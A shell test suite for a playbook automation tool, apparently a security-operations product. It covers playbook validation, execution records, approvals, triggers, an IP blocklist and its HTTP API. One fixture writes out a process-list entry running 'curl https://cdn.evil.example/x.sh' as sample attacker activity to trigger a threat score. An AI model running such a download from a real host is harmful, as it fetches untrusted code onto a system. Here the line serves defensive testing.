#!/bin/sh
# SPDX-License-Identifier: MIT
# vc-playbook: documents (YAML and the original's JSON) checked with the
# path of every error, versions, plan touching nothing, runs recorded step
# by step (outputs, failures midway, retries, on_failure), approvals and
# cancel, the event trigger run at most once per event (also by two
# processes at once), the cron trigger, the blocklist and its exports,
# mail through a real SMTP relay (aiosmtpd), roles and tenants.
. "$(dirname "$0")/lib.sh"

PY=/usr/bin/python3
"$PY" -c 'import aiosmtpd' 2>/dev/null || skip_all "python3-aiosmtpd is not installed"
command -v sqlite3 >/dev/null || skip_all "no sqlite3"
PW='sturdy tuna lantern'
EX=$TOP/examples/playbooks
lines() { if [ -z "$out" ]; then echo 0; else printf '%s\n' "$out" | wc -l | tr -d ' '; fi; }

init_store
run vc-auth tenant create globex
for u in "ada admin" "ann analyst" "val viewer"; do
	set -- $u
	run_in "$PW" vc-auth user create "$1" --role "$2" --password-stdin
done
run_in "$PW" vc-auth user create gina --role admin --tenant globex --password-stdin
ADA=$(login_as ada "$PW")
ANN=$(login_as ann "$PW")
VAL=$(login_as val "$PW")
GINA=$(login_as gina "$PW")
printf '{"client_id":"C.1234","hostname":"web01","ip":"10.1.2.3","os":"linux"}\n' |
	VC_TOKEN=$ADA vc-hosts import >/dev/null
HOST=$(VC_TOKEN=$ADA vc-hosts show C.1234 -o jsonl | jq -r .id)

# ---- check ---------------------------------------------------------------------
for f in "$EX"/*; do
	with "$VAL" vc-playbook check "$f" -o jsonl
	is "$rc:$(jqr .valid)" "0:true" "the shipped example $(basename "$f") is valid"
done
cat > "$T/bad.yaml" <<'EOF'
name: bad one
trigger:
  type: scheduled
  cron: "61 * * * *"
  timezone: Mars/Olympus
steps:
  - name: a
    action: launch_missiles
  - name: b
    action: send_email
    params:
      to: x@example.org
      body: "${steps.zz.case_id}"
      bcc: everyone
  - action: create_case
    params: {title: "${steps.b.nope}"}
EOF
with "$VAL" vc-playbook check "$T/bad.yaml" -o jsonl
is "$rc" 65 "a bad playbook: exit 65"
is "$(jqr '.errors[] | "\(.path) \(.error)"')" \
".trigger.cron minute field '61' is not 0-59 (*, N, A-B, /STEP, lists)
.trigger.timezone unknown time zone 'Mars/Olympus'
.steps[0].action unknown action 'launch_missiles'
.steps[1].params.subject send_email needs the parameter subject
.steps[1].params.bcc send_email takes no parameter bcc
.steps[1].params.body \${steps.zz.case_id}: no step zz before this one
.steps[2].params.title \${steps.b.nope}: send_email gives no field nope" \
	"every error is reported with its path in the document"
is "$(printf '%s\n' "$err" | grep -c '^vc-playbook: \.')" 8 "... and on stderr, one a line, then the first again"
with_in '{"name":"c","trigger_type":"event","trigger_config":{"condition":".score >= "},"actions":[{"type":"send_notification","params":{"message":"x"}}]}' \
	"$VAL" vc-playbook check -o jsonl
is "$rc:$(jqr '.errors[0].path')" "65:.trigger.condition" "a condition that does not compile is refused at its path"
with_in '{"name":"c","trigger_type":"event","trigger_config":{"condition":"$ENV.HOME"},"actions":[{"type":"send_notification","params":{"message":"x"}}]}' \
	"$VAL" vc-playbook check -o jsonl
like "$rc:$(jqr '.errors[0].error')" '^65:.*ENV' "a condition reaching outside its row is refused (jqprog's checks)"
with_in 'name: [' "$VAL" vc-playbook check
is "$rc" 65 "YAML that does not parse: exit 65"
like "$err" 'stdin: YAML line [0-9]+' "... naming the line"

# ---- add, versions, list, show, roles ----------------------------------------------------
ORIG='{"name": "Isolate High-Risk Host", "trigger_type": "event", "actions": [{"type": "send_notification", "params": {"message": "High risk detected"}}, {"type": "add_label", "params": {"host": "${host_id}", "label": "quarantined"}}, {"type": "create_case", "params": {"title": "Auto-generated case"}}]}'
with_in "$ORIG" "$ANN" vc-playbook add
is "$rc" 77 "an analyst may not add a playbook"
with_in "$ORIG" "$ADA" vc-playbook add -o jsonl
is "$rc:$(jqr '"\(.version) \(.trigger_type) \(.doc.steps | map(.action) | join(","))"')" \
	"0:1 event send_notification,add_label,create_case" "the original's JSON body is a playbook as is"
ORIG_ID=$(jqr .id)
with "$ADA" vc-playbook add "$EX/quarantine-label.yaml" -o jsonl
QL=$(jqr .id)
with "$ADA" vc-playbook add "$EX/quarantine-label.yaml"
is "$rc" 65 "a second playbook of the same name: exit 65 (conflict)"
sed 's/oncall@example.org/soc@example.org/' "$EX/quarantine-label.yaml" > "$T/ql2.yaml"
with "$ADA" vc-playbook update quarantine-label "$T/ql2.yaml" -o jsonl
is "$rc:$(jqr .version)" "0:2" "update makes version 2"
with "$VAL" vc-playbook show quarantine-label --at-version 1 --versions -o jsonl
is "$(jqr '"\(.doc_version) \(.doc.steps[1].params.to) \(.versions | length)"')" "1 oncall@example.org 2" \
	"version 1 is kept as it was, and both are listed"
with "$VAL" vc-playbook list -o jsonl
is "$(lines)" 2 "list: the tenant's two playbooks"
with "$GINA" vc-playbook show "$QL"
is "$rc" 66 "another tenant's playbook does not exist for globex"
is "$(sq "SELECT COUNT(*) FROM audit_logs WHERE action = 'authz.denied' AND target_id = '$QL'")" 1 \
	"... and reaching for it is audited"

# ---- plan, run ----------------------------------------------------------------------------
M=$T/mail
mkdir -p "$M"
"$PY" "$TOP/tests/fixtures/smtp/smtp.py" --dir "$M" --ready "$T/smtp.port" > "$T/smtp.log" 2>&1 &
echo $! >> "$T/pids"
await 60 test -s "$T/smtp.port"
vc-auth mail set --url "smtp://127.0.0.1:$(cat "$T/smtp.port")" --from vc@example.test --insecure-plaintext >/dev/null
ok $? "a local SMTP relay (aiosmtpd) is the mail transport"

cat > "$T/chain.yaml" <<'EOF'
name: chain
trigger: {type: manual}
steps:
  - name: case
    action: create_case
    params: {title: "Score ${score} on ${subject}", severity: critical, host: "${host_id}"}
  - name: block
    action: block_ip
    params: {address: "${remote_ip}", reason: "case ${steps.case.case_id}", expires: 7d}
  - name: tell
    action: send_notification
    params: {to: "role:viewer", message: "case ${steps.case.case_id}: ${remote_ip} blocked"}
  - name: mail
    action: send_email
    params: {to: soc@example.test, subject: "Blocked ${remote_ip}", body: "Case ${steps.case.case_id}"}
EOF
with "$ADA" vc-playbook add "$T/chain.yaml" -o jsonl
EV="{\"host_id\":\"$HOST\",\"score\":0.93,\"subject\":\"host web01\",\"remote_ip\":\"203.0.113.9\"}"
count() { sq "SELECT (SELECT COUNT(*) FROM cases) || ' ' || (SELECT COUNT(*) FROM blocklist) || ' ' ||
    (SELECT COUNT(*) FROM playbook_executions) || ' ' || (SELECT COUNT(*) FROM notifications) || ' ' ||
    (SELECT COUNT(*) FROM outbox)"; }
before=$(count)
with "$ANN" vc-playbook plan chain --event "$EV" -o jsonl
is "$rc" 0 "plan: exit 0"
is "$(jqr '.steps[] | "\(.name) \(.params | tostring)"')" \
"case {\"title\":\"Score 0.93 on host web01\",\"severity\":\"critical\",\"host\":\"$HOST\"}
block {\"address\":\"203.0.113.9\",\"reason\":\"case \${steps.case.case_id}\",\"expires\":\"7d\"}
tell {\"to\":\"role:viewer\",\"message\":\"case \${steps.case.case_id}: 203.0.113.9 blocked\"}
mail {\"to\":\"soc@example.test\",\"subject\":\"Blocked 203.0.113.9\",\"body\":\"Case \${steps.case.case_id}\"}" \
	"plan prints each step with its parameters resolved from the event (later outputs left as templates)"
is "$(count)" "$before" "plan touches nothing"

with "$ANN" vc-playbook run chain --event "$EV" -o jsonl
is "$rc:$(jqr .status)" "0:succeeded" "run: the chain succeeds"
X1=$(jqr .id)
CASE=$(jqr .steps[0].output.case_id)
is "$(jqr '[.steps[].status] | join(" ")')" "succeeded succeeded succeeded succeeded" "every step recorded as succeeded"
is "$(jqr '.steps[1].params.reason')" "case $CASE" "a later step got the earlier step's output (\${steps.case.case_id})"
is "$(jqr '"\(.actor) \(.trigger) \(.event.remote_ip)"')" "ann manual 203.0.113.9" "the actor, the trigger and the event are recorded"
with "$ANN" vc-case show "$CASE" -o jsonl
is "$(jqr '"\(.title) \(.severity)"')" "Score 0.93 on host web01 critical" "create_case made the case"
is "$(sq "SELECT COUNT(*) FROM case_links WHERE case_id = '$CASE' AND target_id = '$HOST'")" 1 "... linked to the host"
like "$(sq "SELECT body FROM case_notes WHERE case_id = '$CASE' AND kind = 'event'")" "execution $X1 from event .*\"score\":0.93" \
	"... with the triggering event as evidence on its timeline"
with "$VAL" vc-notify list -o jsonl
like "$(jqr .body | head -n 1)" "case $CASE: 203.0.113.9 blocked" "send_notification reached the viewers"
await 30 sh -c "ls '$M' | grep -q eml"
ok $? "send_email's message reached the SMTP relay"
like "$(cat "$M"/*.eml 2>/dev/null)" "Subject: Blocked 203.0.113.9" "... with its subject"
is "$(sq "SELECT COUNT(*) FROM audit_logs WHERE action = 'playbook.action' AND target_id = '$X1' AND outcome = 'success'")" 4 \
	"every action is audited"
with "$VAL" vc-notify events --type 'playbook.execution.*' -o jsonl
is "$(jqr .type | paste -sd' ' -)" "playbook.execution.running playbook.execution.succeeded" "the execution emits its events"

# ---- blocklist ---------------------------------------------------------------------------
with "$ANN" vc-playbook blocklist add 198.51.100.0/24 --reason 'scanner net' --expires 1h -o jsonl
is "$rc" 0 "blocklist add a network"
with "$ANN" vc-playbook blocklist add 'not-an-ip'
is "$rc" 65 "an address that is none: exit 65"
with "$ANN" vc-playbook blocklist add 2001:db8::/32 --reason 'v6 net'
sq "INSERT INTO blocklist (tenant_id, network, lo, hi, reason, expires_at, created_at)
    SELECT id, '192.0.2.1', x'', x'', 'old', 1, 0 FROM tenants WHERE name = 'acme'"
with "$VAL" vc-playbook blocklist export --format plain
is "$out" "198.51.100.0/24
203.0.113.9
2001:db8::/32" "export plain: one network a line, the expired one left out"
with "$VAL" vc-playbook blocklist export --format nft
is "$(printf '%s\n' "$out" | grep -v '^#')" "add element inet filter vc_blocklist4 { 198.51.100.0/24 }
add element inet filter vc_blocklist4 { 203.0.113.9 }
add element inet filter vc_blocklist6 { 2001:db8::/32 }" "export nft: elements of the v4 and v6 sets"
with "$VAL" vc-playbook blocklist export --format csv
is "$(printf '%s\n' "$out" | sed -n 3p)" "203.0.113.9,case $CASE,$X1,$(date -u -d "@$(sq "SELECT expires_at FROM blocklist WHERE network = '203.0.113.9'")" +%Y-%m-%dT%H:%M:%SZ)" \
	"export csv: network, reason, the execution that blocked it, the expiry"
with "$VAL" vc-playbook blocklist export --format json
is "$(jqr .network | paste -sd' ' -)" "198.51.100.0/24 203.0.113.9 2001:db8::/32" "export json: the records"
with "$VAL" vc-playbook blocklist add 192.0.2.9
is "$rc" 77 "a viewer may not block"
with "$ANN" vc-playbook blocklist remove 198.51.100.0/24
is "$rc" 0 "blocklist remove by network"
with "$ANN" vc-playbook blocklist remove 198.51.100.0/24
is "$rc" 66 "... once"
# A firewall's hook: the blocklist's changes through a vc-notify channel.
with "$ADA" vc-notify channel add fw --kind file --target "$T/fw.jsonl" --type 'blocklist.*' --since 0
with "$ADA" vc-notify forward --once
is "$(jq -r '"\(.type) \(.body.network)"' "$T/fw.jsonl" | paste -sd, -)" \
	"blocklist.added 203.0.113.9,blocklist.added 198.51.100.0/24,blocklist.added 2001:db8::/32,blocklist.removed 198.51.100.0/24" \
	"every change of the blocklist is an event a channel delivers (a firewall's hook)"
with "$GINA" vc-playbook blocklist list -o jsonl
is "$(lines)" 0 "globex sees none of acme's blocklist"

# ---- failure midway, retries, on_failure ----------------------------------------------------
cat > "$T/fail.yaml" <<'EOF'
name: fails midway
steps:
  - name: first
    action: send_notification
    params: {message: "first"}
  - name: label
    action: add_label
    params: {host: "${host}", label: x}
    retries: 2
    backoff: 0
  - name: never
    action: send_notification
    params: {message: "never"}
EOF
with "$ADA" vc-playbook add "$T/fail.yaml"
with "$ANN" vc-playbook run 'fails midway' --event '{"host":"C.nosuch"}' -o jsonl
is "$rc" 66 "a failed step fails the run with its own exit status (66: no such host)"
like "$err" "failed at step label: no such host" "... and says which step and why"
is "$(jqr '"\(.status) \([.steps[].status] | join(" ")) \(.steps[1].attempts)"')" "failed succeeded failed skipped 3" \
	"the record is accurate: first done, label failed after 3 attempts, the rest skipped"
like "$(jqr .steps[1].error)" 'no such host' "the step's error is kept"
is "$(sq "SELECT COUNT(*) FROM notifications WHERE body = 'never'")" 0 "the step after the failure did not run"
sed 's/    backoff: 0/    backoff: 0\n    on_failure: continue/' "$T/fail.yaml" > "$T/cont.yaml"
with "$ADA" vc-playbook update 'fails midway' "$T/cont.yaml"
with "$ANN" vc-playbook run 'fails midway' --event '{"host":"C.nosuch"}' -o jsonl
is "$(jqr '"\(.status) \([.steps[].status] | join(" "))"')" "failed succeeded failed succeeded" \
	"on_failure: continue runs the next steps, and the execution still says it failed"
with "$ANN" vc-playbook run 'fails midway' --event '{}' -o jsonl
is "$(jqr '.steps[1].error')" 'params: ${host}: no such field in the event' "a template to a missing field fails its step by name"

# ---- a step's timeout holds for a database action too ------------------------------------------------
# Another process takes the store's write lock once the first step is
# recorded, and holds it 6 s: the label step (timeout 1 s, one retry)
# times out waiting for it, twice, and on_failure decides what follows.
# PostgreSQL has no lock of the whole store: there the other session
# takes the hosts table (ACCESS EXCLUSIVE, which even a read waits for),
# and the step's wait ends as lock_timeout says.
cat > "$T/lock.py" <<'PYEOF'
import sqlite3, sys, time
db, name, hold, flag = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4]
c = sqlite3.connect(db, timeout=30, isolation_level=None)
q = ("SELECT 1 FROM playbook_executions e JOIN playbooks p ON p.id = e.playbook_id"
     " WHERE p.name = ? AND e.status = 'running' AND json_extract(e.steps, '$[0].status') = 'succeeded'")
end = time.time() + 60
while c.execute(q, (name,)).fetchone() is None:
    if time.time() > end:
        sys.exit(1)
    time.sleep(0.02)
c.execute("BEGIN IMMEDIATE")
open(flag, "w").write("%.3f\n" % time.time())
time.sleep(hold)
c.execute("COMMIT")
PYEOF
# locker NAME HOLD FLAG: that other process, on either backend.
locker() {
	if [ "$STORE_PG" = 0 ]; then
		"$PY" "$T/lock.py" "$VC_DB" "$1" "$2" "$3"
		return
	fi
	printf '%s\n' "SET lock_timeout = '60s';" \
	    "DO \$\$ DECLARE t timestamptz := clock_timestamp() + interval '60 s'; BEGIN" \
	    "  WHILE NOT EXISTS (SELECT 1 FROM playbook_executions e JOIN playbooks p ON p.id = e.playbook_id" \
	    "      WHERE p.name = '$1' AND e.status = 'running' AND $(sq_json e.steps 0.status) = 'succeeded') LOOP" \
	    "    IF clock_timestamp() > t THEN RAISE EXCEPTION 'the run never recorded its first step'; END IF;" \
	    "    PERFORM pg_sleep(0.02);" \
	    "  END LOOP; END \$\$;" \
	    "BEGIN;" "LOCK TABLE hosts IN ACCESS EXCLUSIVE MODE;" "\\! date +%s > $3" \
	    "SELECT pg_sleep($2);" "COMMIT;" > "$T/lock.sql"
	"$PGBIN/psql" -X -q -v ON_ERROR_STOP=1 -f "$T/lock.sql" "$SQ_URL" > "$T/lock.out" 2>&1
}
if [ "$STORE_PG" = 1 ]; then WAITED='timed out \(waiting for a lock\)'; else WAITED='write lock'; fi
cat > "$T/slowstore.yaml" <<'YEOF'
name: slow store
steps:
  - name: first
    action: send_notification
    params: {message: "before the lock"}
  - name: label
    action: add_label
    params: {host: "${host}", label: x}
    timeout: 1
    retries: 1
    backoff: 2
    on_failure: continue
  - name: after
    action: send_notification
    params: {message: "after the lock"}
YEOF
with "$ADA" vc-playbook add "$T/slowstore.yaml"
locker "slow store" 6 "$T/locked" &
LOCKER=$!
t0=$(date +%s)
with "$ANN" vc-playbook run 'slow store' --event '{"host":"C.nosuch"}' -o jsonl
t1=$(date +%s)
wait $LOCKER
ok $(test -s "$T/locked"; echo $?) "another process took the write lock mid-run: no transaction was held open across the step"
is "$rc" 75 "a step that timed out fails the run with exit 75"
is "$(jqr '"\(.status) \([.steps[].status] | join(" ")) \(.steps[1].attempts) \(.steps[1].timed_out)"')" \
	"failed succeeded failed succeeded 2 true" "the database step timed out on each of its 2 tries; on_failure: continue ran the next"
like "$(jqr .steps[1].error)" "^timed out after 1 s: .*$WAITED" "... and its error says it timed out, waiting for what"
is "$(sq "SELECT COUNT(*) FROM notifications WHERE body = 'after the lock'")" 1 "the step after it ran once the lock was given back"
ok $([ $((t1 - t0)) -ge 3 ] && [ $((t1 - t0)) -le 30 ]; echo $?) "... within the lock's hold, not the store's own 10 s wait a try ($((t1 - t0)) s)"
sed '/    on_failure: continue/d' "$T/slowstore.yaml" > "$T/slowstop.yaml"
with "$ADA" vc-playbook update 'slow store' "$T/slowstop.yaml"
rm -f "$T/locked"
locker "slow store" 5 "$T/locked" &
LOCKER=$!
with "$ANN" vc-playbook run 'slow store' --event '{"host":"C.nosuch"}' -o jsonl
wait $LOCKER
is "$rc:$(jqr '"\(.status) \([.steps[].status] | join(" ")) \(.steps[1].timed_out)"')" "75:failed succeeded failed skipped true" \
	"on_failure: stop after a timeout skips the rest"
# On PostgreSQL a process's first statement on a table waits for the
# table's lock already as it is prepared: the step's timeout holds there
# too (SQLite's write lock is taken at BEGIN, checked above).
if [ "$STORE_PG" = 1 ]; then
	printf 'name: locked from the start\nsteps:\n  - name: label\n    action: add_label\n    params: {host: "${host}", label: x}\n    timeout: 1\n' > "$T/held.yaml"
	with "$ADA" vc-playbook add "$T/held.yaml"
	printf '%s\n' "BEGIN;" "LOCK TABLE hosts IN ACCESS EXCLUSIVE MODE;" "\\! touch $T/held" \
	    "SELECT pg_sleep(8);" "COMMIT;" > "$T/held.sql"
	"$PGBIN/psql" -X -q -v ON_ERROR_STOP=1 -f "$T/held.sql" "$SQ_URL" > "$T/held.out" 2>&1 &
	HOLDER=$!
	await 30 test -e "$T/held"
	t0=$(date +%s)
	with "$ANN" vc-playbook run 'locked from the start' --event '{"host":"C.nosuch"}' -o jsonl
	t1=$(date +%s)
	wait $HOLDER
	like "$rc:$(jqr '"\(.steps[0].status) \(.steps[0].timed_out) \(.steps[0].error)"')" \
	    "^75:failed true timed out after 1 s: .*$WAITED" "a table locked before the run: its first statement times out as it is prepared"
	ok $([ $((t1 - t0)) -le 5 ]; echo $?) "... at the step's timeout, not the lock's 8 s ($((t1 - t0)) s)"
	# The lists below are the same on both backends.
	with "$ADA" vc-playbook delete 'locked from the start'
fi

# ---- when -----------------------------------------------------------------------------------------
printf 'name: conditional\nsteps:\n  - name: high\n    action: send_notification\n    params: {message: "high ${score}"}\n    when: ".event.score >= 0.5"\n  - name: low\n    action: send_notification\n    params: {message: "low ${score}"}\n    when: ".event.score < 0.5"\n  - name: after\n    action: send_notification\n    params: {message: "high was ${steps.high.notification_id}"}\n    when: ".steps.high != null"\n' > "$T/when.yaml"
with "$ADA" vc-playbook add "$T/when.yaml"
with "$ANN" vc-playbook run conditional --event '{"score": 0.7}' -o jsonl
is "$rc:$(jqr '[.steps[].status] | join(" ")')" "0:succeeded skipped succeeded" "a step's when decides whether it runs (on the event and earlier steps)"
is "$(jqr .steps[1].error)" "when: false" "... and a skipped step says why"
printf 'name: badwhen\nsteps:\n  - action: send_notification\n    params: {message: x}\n    when: ".score >"\n' > "$T/badwhen.yaml"
with "$ADA" vc-playbook check "$T/badwhen.yaml" -o jsonl
is "$rc:$(jqr .errors[0].path)" "65:.steps[0].when" "a when that does not compile is refused at its path"

# ---- approvals, cancel -----------------------------------------------------------------------
with "$ANN" vc-playbook run quarantine-label --event "{\"host_id\":\"C.1234\"}"
is "$rc" 77 "a step that requires approval is refused without --approve"
with "$ANN" vc-playbook run quarantine-label --event "{\"host_id\":\"C.1234\"}" --approve
is "$rc" 77 "only an admin approves"
is "$(sq "SELECT labels FROM hosts WHERE id = '$HOST'")" '[]' "nothing was labelled"
with "$ADA" vc-playbook run quarantine-label --event "{\"host_id\":\"C.1234\"}" --approve -o jsonl
is "$rc:$(jqr '"\(.status) \(.steps[0].approved_by)"')" "0:succeeded ada" "an admin's --approve runs it, and who approved is kept"
is "$(sq "SELECT labels FROM hosts WHERE id = '$HOST'")" '["quarantined"]' "the host is labelled"
with "$ANN" vc-playbook run "$ORIG_ID"
is "$rc" 77 "an analyst runs manual playbooks only"

# ---- event trigger: at most once per event -------------------------------------------------------
cat > "$T/onscore.yaml" <<'EOF'
name: on critical score
trigger:
  type: event
  events: [threat_score.created]
  condition: '.score >= 0.8 and .classification == "critical"'
steps:
  - name: case
    action: create_case
    params: {title: "Critical: ${subject}", description: "score ${score} (${classification})"}
  - name: block
    action: block_ip
    params: {address: 203.0.113.77, reason: "score ${score_id}"}
  - name: approve
    action: send_notification
    params: {message: "case ${steps.case.case_id}"}
    requires_approval: true
EOF
with "$ADA" vc-playbook add "$T/onscore.yaml"
printf '{"type":"domain","value":"evil.example","severity":"high"}\n' | VC_TOKEN=$ANN vc-score ioc import > /dev/null
printf '{"Name":"curl","CommandLine":"curl https://cdn.evil.example/x.sh"}\n' > "$T/ps.jsonl"
ART=$(VC_TOKEN=$ANN vc-case artifact import "$T/ps.jsonl" --name Windows.System.Pslist -o jsonl | jq -r .id)
mkdir "$T/norules"
with "$ANN" vc-score analyze artifact "$ART" --rules "$T/norules" -o jsonl
is "$(jqr .classification)" critical "a critical score is stored (threat_score.created)"
with "$ADA" vc-playbook due -o jsonl
like "$(jqr .events_due)" '^[1-9]' "due says events wait"
VC_TOKEN=$ANN vc-notify events --type threat_score.created -o jsonl | tail -n 1 > "$T/ev.json"
run_from "$T/ev.json" env VC_TOKEN="$ADA" vc-playbook plan 'on critical score' --event-file - -o jsonl
like "$(jqr .steps[0].params.description)" '^score 0\.[0-9]+ \(critical\)$' "plan --event-file - takes an event of the log on stdin"
# Two processes at once: one execution.
VC_TOKEN=$ADA vc-playbook due --run -o jsonl > "$T/d1" 2>&1 &
p1=$!
VC_TOKEN=$ADA vc-playbook due --run -o jsonl > "$T/d2" 2>&1 &
p2=$!
wait $p1 $p2
is "$(sq "SELECT COUNT(*) FROM playbook_executions e JOIN playbooks p ON p.id = e.playbook_id WHERE p.name = 'on critical score'")" 1 \
	"two due --run at once: the event ran the playbook once"
X2=$(sq "SELECT e.id FROM playbook_executions e JOIN playbooks p ON p.id = e.playbook_id WHERE p.name = 'on critical score'")
with "$ADA" vc-playbook show "$X2" -o jsonl
is "$(jqr '"\(.status) \(.trigger) \([.steps[].status] | join(" "))"')" "pending_approval event succeeded succeeded waiting" \
	"the event-triggered run waits at the step that requires approval"
is "$(jqr .event.classification)" critical "the event is recorded with the execution"
with "$ADA" vc-playbook due --run -o jsonl
is "$(lines)" 0 "due --run again: nothing (the cursor moved)"
sq "UPDATE playbook_cursors SET cursor = 0"
with "$ADA" vc-playbook due --run -o jsonl
is "$(sq "SELECT COUNT(*) FROM playbook_executions e JOIN playbooks p ON p.id = e.playbook_id WHERE p.name = 'on critical score'")" 1 \
	"the same event again (cursor rewound): the idempotency key keeps it from running twice"
EID=$(sq "SELECT event_id FROM playbook_executions WHERE id = '$X2'")
if [ "$STORE_PG" = 1 ]; then UNIQ='duplicate key value violates unique constraint "playbook_executions_once"'; else UNIQ='UNIQUE constraint failed'; fi
sq "INSERT INTO playbook_executions (id, tenant_id, playbook_id, version, status, trigger, idem_key, steps, created_at, updated_at)
    SELECT 'dup', tenant_id, playbook_id, version, 'running', 'event', idem_key, '[]', 0, 0 FROM playbook_executions WHERE id = '$X2'" 2> "$T/dup"
like "$?:$(cat "$T/dup")" "^[1-9][0-9]*:.*$UNIQ" "the store itself refuses a second execution for one playbook version and event"
with "$ANN" vc-playbook approve "$X2"
is "$rc" 77 "an analyst may not approve"
# On PostgreSQL the approval's claim gives way once (40001): taken again.
[ "$STORE_PG" = 0 ] || flaky playbook_executions UPDATE 1
with "$ADA" vc-playbook approve "$X2" -o jsonl
is "$rc:$(jqr '"\(.status) \(.steps[2].status) \(.steps[2].approved_by)"')" "0:succeeded succeeded ada" "approve runs the waiting step"
if [ "$STORE_PG" = 1 ]; then
	ok $([ "$(flaky_hits playbook_executions)" -ge 2 ]; echo $?) "... its claim, given way once, taken again"
	flaky_off playbook_executions
	is "$(sq "SELECT COUNT(*) FROM audit_logs WHERE action = 'playbooks.approve' AND target_id = '$X2'")" 1 \
		"... one audit record of the approval"
fi
with "$ADA" vc-playbook approve "$X2"
is "$rc" 65 "approving twice: a conflict"
# cancel a waiting one
with "$ADA" vc-playbook run 'on critical score' --event '{"subject":"x","score":0.9,"classification":"critical","score_id":"s"}'
is "$rc" 77 "by hand, a step that requires approval needs --approve (an event playbook too)"
with "$ANN" vc-score analyze artifact "$ART" --rules "$T/norules" -o jsonl
with "$ADA" vc-playbook due --run -o jsonl
is "$(jqr 'select(.playbook == "on critical score") | "\(.trigger) \(.status)"')" "event pending_approval" "a second score: a second execution, waiting"
X3=$(jqr 'select(.playbook == "on critical score") | .execution_id')
with "$ANN" vc-playbook cancel "$X3" -o jsonl
is "$rc:$(jqr '"\(.status) \(.steps[2].status)"')" "0:cancelled skipped" "cancel a waiting execution"
with "$VAL" vc-playbook executions --status cancelled -o jsonl
is "$(jqr .id)" "$X3" "executions --status lists it"
# An approval that comes too late.
with "$ANN" vc-score analyze artifact "$ART" --rules "$T/norules" -o jsonl
with "$ADA" vc-playbook due --run -o jsonl
X4=$(jqr 'select(.playbook == "on critical score") | .execution_id')
if [ "$STORE_PG" = 1 ]; then
	sq "UPDATE playbook_executions SET steps = jsonb_set(steps::jsonb, '{2,waiting_since}', '1000')::text WHERE id = '$X4'"
else
	sq "UPDATE playbook_executions SET steps = json_set(steps, '$[2].waiting_since', 1000) WHERE id = '$X4'"
fi
with "$ADA" vc-playbook approve "$X4"
like "$rc:$err" "^65:.*approval of execution $X4 expired" "an approval after 24 hours is refused"
with "$VAL" vc-playbook show "$X4" -o jsonl
is "$(jqr '"\(.status) \(.steps[2].status)"')" "expired skipped" "... and the execution is expired, its step skipped"
is "$(sq "SELECT COUNT(*) FROM notifications WHERE body LIKE 'case %' AND created_at > 0 AND body = 'case ' || (SELECT $(sq_json steps 0.output.case_id) FROM playbook_executions WHERE id = '$X4')")" 0 \
	"... and never ran"

# ---- a scheduled trigger -----------------------------------------------------------------------
with "$ADA" vc-playbook add "$EX/nightly-digest.json" -o jsonl
like "$(jqr .next_run_at)" '^20[0-9-]+T0[45]:00:00Z$' "the next run is 06:00 Berlin time, in UTC"
sq "UPDATE playbooks SET next_run_at = 1000 WHERE name = 'nightly-digest'"
with "$ADA" vc-playbook due --run -o jsonl
is "$rc:$(jqr 'select(.trigger == "scheduled") | "\(.key) \(.status)"')" "0:cron:1000 succeeded" "due --run runs a scheduled playbook whose time came"
with "$ADA" vc-playbook due --run -o jsonl
is "$(lines)" 0 "... once"

# ---- disable, delete ----------------------------------------------------------------------------
with "$ADA" vc-playbook disable chain
with "$ANN" vc-playbook run chain --event "$EV"
is "$rc" 65 "a disabled playbook does not run"
with "$ADA" vc-playbook delete chain
with "$VAL" vc-playbook show chain
is "$rc" 66 "a deleted playbook is gone"
with "$VAL" vc-playbook show "$X1" -o jsonl
is "$(jqr .status)" succeeded "... and its executions stay readable"

# ---- HTTP ---------------------------------------------------------------------------------------
req() {
	code=$(curl -s --max-time 20 -o "$T/b" -w '%{http_code}' "$@")
	body=$(cat "$T/b")
}
PORT=$(free_port)
B=http://127.0.0.1:$PORT
vc-serve --listen "127.0.0.1:$PORT" --workers 2 --playbook-interval 0 2> "$T/log" &
echo $! >> "$T/pids"
await 60 grep -q 'listening on' "$T/log"
ok $? "vc-serve starts"
HJ='Content-Type: application/json'
BODY='{"name": "over http", "trigger_type": "manual", "actions": [{"type": "send_notification", "params": {"message": "High risk detected"}}, {"type": "add_label", "params": {"host": "${host_id}", "label": "seen"}}]}'
req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d "$BODY" "$B/api/playbooks"
is "$code" 403 "POST /api/playbooks: an analyst is refused"
req -X POST -H "Authorization: Bearer $ADA" -H "$HJ" -d "$BODY" "$B/api/playbooks"
is "$code:$(printf '%s' "$body" | jq -r .name)" "201:over http" "POST /api/playbooks with the original's body: 201"
HP=$(printf '%s' "$body" | jq -r .id)
req -H "Authorization: Bearer $VAL" "$B/api/playbooks"
is "$code:$(printf '%s' "$body" | jq -r '[.items[].name] | sort | join(",")')" \
	"200:Isolate High-Risk Host,conditional,fails midway,nightly-digest,on critical score,over http,quarantine-label,slow store" "GET /api/playbooks"
req -H "Authorization: Bearer $VAL" "$B/api/playbooks/$HP"
is "$code:$(printf '%s' "$body" | jq -r '.doc.steps | length')" "200:2" "GET /api/playbooks/{id}"
n0=$(sq "SELECT COUNT(*) FROM playbook_executions")
req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d '{"dry_run": true, "event": "{\"host_id\": \"C.1234\"}"}' "$B/api/playbooks/$HP/execute"
is "$code:$(printf '%s' "$body" | jq -r '"\(.plan) \(.steps[1].params.host)"'):$(sq "SELECT COUNT(*) FROM playbook_executions")" \
	"200:true C.1234:$n0" "POST execute with dry_run=true plans and records nothing"
req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d '{"event": "{\"host_id\": \"C.1234\"}"}' "$B/api/playbooks/$HP/execute?dry_run=true"
is "$code:$(printf '%s' "$body" | jq -r .plan):$(sq "SELECT COUNT(*) FROM playbook_executions")" "200:true:$n0" \
	"... also as ?dry_run=true in the query, the original's way"
req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d '{"event": "{\"host_id\": \"C.1234\"}"}' "$B/api/playbooks/$HP/execute"
is "$code:$(printf '%s' "$body" | jq -r .status)" "200:succeeded" "POST execute runs it"
req -X POST -H "Authorization: Bearer $ANN" -H "$HJ" -d '{"event": {"host_id": "C.1234", "n": [1, {"k": "v"}]}}' "$B/api/playbooks/$HP/execute"
is "$code:$(printf '%s' "$body" | jq -c '[.status, (.event | type), .event.n, .steps[1].params.host]')" \
	'200:["succeeded","object",[1,{"k":"v"}],"C.1234"]' "POST execute takes the event as a nested JSON object, and answers it as one"
